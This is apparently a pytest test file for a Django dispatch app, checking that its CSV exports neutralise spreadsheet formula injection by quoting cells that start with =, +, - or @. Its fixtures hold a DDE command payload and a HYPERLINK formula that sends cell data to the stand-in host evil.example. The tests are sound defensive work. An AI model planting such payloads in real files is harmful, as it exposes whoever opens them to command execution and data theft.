"""The CSV files the dispatch pages hand out — the visit list and the engineers (export and import
template) — write text that starts like a spreadsheet formula with a leading quote, so a
spreadsheet shows it rather than runs it; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client

from dispatch.engineer_import import COLUMNS, EngineerResource
from dispatch.models import Engineer, Visit, VisitStatus
from tests.factories import CustomerFactory, EngineerFactory, FacilityFactory

pytestmark = pytest.mark.django_db

FACILITY = "@SUM(1+1)*cmd|' /C calc'!A0"
CUSTOMER = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
ENGINEER = "-5"


def _manager_client(world) -> Client:
    c = Client()
    c.force_login(world.lam_manager)
    return c


def test_the_visit_list_csv_neutralises_hostile_names_and_keeps_the_number(world):
    fab = FacilityFactory(name=FACILITY, customer=CustomerFactory(name=CUSTOMER))
    engineer = EngineerFactory(vendor=world.lam, name=ENGINEER)
    start = dt.date.today() + dt.timedelta(days=3)
    visit = Visit.objects.create(
        vendor=world.lam,
        facility=fab,
        activity="maintenance",
        mode="on_site",
        start_date=start,
        end_date=start,
        requested_by=world.lam_manager,
        status=VisitStatus.PENDING,
    )
    visit.engineers.add(engineer)
    r = _manager_client(world).get("/?format=csv")
    assert r.status_code == 200
    text = b"".join(r.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    (row,) = [x for x in rows if x["number"] == str(visit.pk)]
    assert row["facility"] == "'" + FACILITY
    assert row["owner"] == "'" + CUSTOMER
    assert row["engineers"] == "'" + ENGINEER
    assert row["start_date"] == start.isoformat()


def test_the_engineer_export_neutralises_hostile_cells_in_the_import_format(world):
    engineer = EngineerFactory(
        vendor=world.lam, name=CUSTOMER, employee_id="+E-7", citizenships=["NL", "US"]
    )
    Engineer.objects.filter(pk=engineer.pk).update(home_country="NL")
    resource = EngineerResource(user=world.lam_manager, vendor_id=world.lam.pk)
    rows = list(csv.DictReader(io.StringIO(resource.export().csv)))
    (row,) = [x for x in rows if x["employee_id"] == "'+E-7"]
    assert list(row) == list(COLUMNS)
    assert row["name"] == "'" + CUSTOMER
    assert sorted(row["citizenships"].split(";")) == ["NL", "US"]
    assert row["home_country"] == "NL"
    assert row["us_protected_individual"] == "no"
    assert all(not v.startswith(("=", "+", "-", "@")) for x in rows for v in x.values())


def test_the_import_template_is_written_through_the_same_safe_cells(world):
    r = _manager_client(world).get("/engineers/import/template.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode())))
    assert rows[0] == list(COLUMNS)
    assert rows[1][:3] == ["E-1001", "Jan de Vries", "NL"]


def test_the_engineers_page_exports_the_managers_own_engineers_in_fixed_queries(world):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    EngineerFactory(vendor=world.lam, name=CUSTOMER, employee_id="E-71", citizenships=["NL"])
    client = _manager_client(world)
    client.get("/engineers/export.csv")
    with CaptureQueriesContext(connection) as few:
        client.get("/engineers/export.csv")
    for i in range(5):
        EngineerFactory(vendor=world.lam, employee_id=f"E-8{i}", citizenships=["US", "NL"])
    with CaptureQueriesContext(connection) as more:
        r = client.get("/engineers/export.csv")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert len(more) == len(few)
    rows = list(csv.DictReader(io.StringIO(r.content.decode())))
    assert list(rows[0]) == list(COLUMNS)
    ids = {row["employee_id"] for row in rows}
    assert "E-71" in ids and world.asml_engineer.employee_id not in ids
    assert {row["name"] for row in rows if row["employee_id"] == "E-71"} == {"'" + CUSTOMER}
    assert Client().get("/engineers/export.csv").status_code == 302
